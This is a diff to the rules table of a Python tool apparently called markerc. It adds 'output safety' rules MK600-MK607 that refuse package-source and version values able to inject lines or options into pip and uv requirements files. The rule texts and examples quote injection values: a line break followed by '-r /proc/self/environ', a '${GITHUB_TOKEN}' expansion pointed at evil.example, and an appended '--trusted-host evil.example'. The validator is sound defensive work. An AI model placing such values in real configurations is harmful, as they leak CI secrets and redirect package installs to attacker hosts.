@@ -102,6 +102,7 @@ _COMPILE = "Compile, lock and the command line"
 _LOCK = "Lock matrix"
 _REVIEW = "Review (diff, report)"
 _LAUNCH = "Xinference launch and venvs"
+_SAFETY = "Output safety"
 _READING = "Strict reading, files and signals"
 #: A target profile for the skip-installed examples: a Linux base that has gamma 1.0 installed.
 _BASE_TARGET = 'name = "base"\nsys_platform = "linux"\npython_version = "3.11"\n[system]\ngamma = "1.0"\n'
@@ -1028,6 +1029,98 @@ RULES: tuple[Rule, ...] = (
                 note="a hub file is not a lock report"),
         Example(("foo",), args=("report", "{hub}")),
         stages=("cli",),
+    ),
+    # ------------------------------------------------------------------ output safety (MK600-MK619)
+    Rule(
+        "MK600", "output-control-character", "error", "line break or control character in a value that reaches an output",
+        _SAFETY,
+        "A model name, a package source (`index_url`, `extra_index_url`, `find_links`, "
+        "`trusted_host`), an entry, a `--set`/`--system`/`--index-url` value or a target's system "
+        "version holds a character that pip, uv or a terminal acts on: a line break (LF, CR, VT, "
+        "FF, FS/GS/RS 0x1c-0x1e, U+0085, U+2028, U+2029), ESC or another C0/C1 control, a bidi "
+        "override or another invisible format character. In a requirements file or a uv input a "
+        "line break starts a line of the attacker's choosing (`--find-links EVIL`, `-r "
+        "/proc/self/environ`). markerc refuses the value (docs/security.md).",
+        Example(("foo",), block='"find_links": ["wheels\\n-r /proc/self/environ"]'),
+        Example(("foo",), block='"find_links": ["wheels"]'),
+        stages=("check", "compile", "lock"),
+    ),
+    Rule(
+        "MK601", "environment-expansion", "error", "'${' in a value pip and uv would expand",
+        _SAFETY,
+        "pip and uv replace `${NAME}` in a requirements file (and uv in a package URL while it "
+        "locks) with the environment variable's value, so a hub value such as "
+        "`https://evil.example/${GITHUB_TOKEN}/simple` sends a CI secret to that server. markerc "
+        "refuses `${` in every hub value it writes; only a value the user gives on the command "
+        "line (`--index-url`, `--extra-index-url`, `--find-links`) may ask for expansion.",
+        Example(("foo",), block='"index_url": "https://mirror.example/${TOKEN}/simple"'),
+        Example(("foo",), block='"index_url": "https://mirror.example/simple"'),
+        stages=("check", "compile", "lock"),
+    ),
+    Rule(
+        "MK602", "line-continuation", "error", "value ends with a backslash (a line continuation)",
+        _SAFETY,
+        "A line of a requirements file that ends with `\\` is joined with the next one, so a "
+        "package source ending with a backslash swallows the line after it (pip then silently "
+        "skips a requirement). markerc refuses such a value.",
+        Example(("foo",), block='"trusted_host": ["mirror.example\\\\"]'),
+        Example(("foo",), block='"trusted_host": ["mirror.example"]'),
+        stages=("check", "compile", "lock"),
+    ),
+    Rule(
+        "MK603", "comment-in-value", "error", "' #' inside a value: pip and uv read a comment",
+        _SAFETY,
+        "pip and uv read whitespace followed by `#` as the start of a comment, even inside a "
+        "quoted marker value, so `foo ; platform_version == \"Ubuntu #1 SMP\"` reaches them "
+        "as `foo ; platform_version == \"Ubuntu` (a syntax error, or a different marker). "
+        "markerc refuses it; test a part of the value that has no ` #`.",
+        Example(('foo ; platform_version == "Ubuntu #1 SMP"',)),
+        Example(('foo ; "SMP" in platform_version',)),
+        stages=("check", "compile", "lock"),
+    ),
+    Rule(
+        "MK604", "option-in-value", "error", "option-looking text where one value belongs",
+        _SAFETY,
+        "A package source is written as `--index-url VALUE` (one line, one value): a value that "
+        "starts with `-` or holds whitespace would give pip and uv more options "
+        "(`https://mirror.example/simple --trusted-host evil.example`, `--no-index`). markerc "
+        "refuses it; give each source its own list element.",
+        Example(("foo",), block='"extra_index_url": ["https://mirror.example/simple --no-index"]'),
+        Example(("foo",), block='"extra_index_url": ["https://mirror.example/simple"]'),
+        stages=("check", "compile", "lock"),
+    ),
+    Rule(
+        "MK605", "invalid-package-source", "error", "package source that is not a URL, path or host",
+        _SAFETY,
+        "`index_url` and `extra_index_url` must be http://, https:// or file:// URLs with a host "
+        "(file:// aside), `find_links` such a URL or a path, `trusted_host` a host name or "
+        "`host:port`; an empty value, another scheme or a port that is not a number is refused.",
+        Example(("foo",), block='"index_url": "mirror.example/simple"'),
+        Example(("foo",), block='"index_url": "https://mirror.example/simple"'),
+        stages=("check", "compile", "lock"),
+    ),
+    Rule(
+        "MK606", "invalid-system-version", "error", "system version that is not one version",
+        _SAFETY,
+        "A version in a target's `[system]` table or in `--system NAME=VERSION` is written into "
+        "`NAME==VERSION` requirement lines, so it must be one PEP 440 version: a specifier "
+        "(`2.8.0,<1`), a marker (`2.8;os_name=='nt'`), a URL or a line break is refused.",
+        Example(("#system_torch#",), args=("compile", "{hub}", "--engine", "vllm", "--system", "torch=2.8.0,<1")),
+        Example(("#system_torch#",), args=("compile", "{hub}", "--engine", "vllm", "--system", "torch=2.8.0")),
+        stages=("compile", "cli"),
+    ),
+    Rule(
+        "MK607", "shell-quote-in-option", "error", "quote or backslash in a package source",
+        _SAFETY,
+        "pip splits the option lines of a requirements file as a shell does (`shlex`), so a "
+        "`\"`, `'` or `\\` inside an `index_url`, `extra_index_url`, `find_links` or "
+        "`trusted_host` value changes the value pip uses (`https://a\"b` loses its quote, "
+        "`C:\\wheels` becomes `C:wheels`) or makes the whole file unreadable (`No closing "
+        "quotation`). Percent-encode the character in a URL (`%22`, `%27`, `%5C`); write a path "
+        "with forward slashes.",
+        Example(("foo",), block='"index_url": "https://mirror.example/it\'s/simple"'),
+        Example(("foo",), block='"index_url": "https://mirror.example/it%27s/simple"'),
+        stages=("check", "compile", "lock"),
     ),
 
     # ------------------------------------------------------------------ strict reading, files (MK620+)
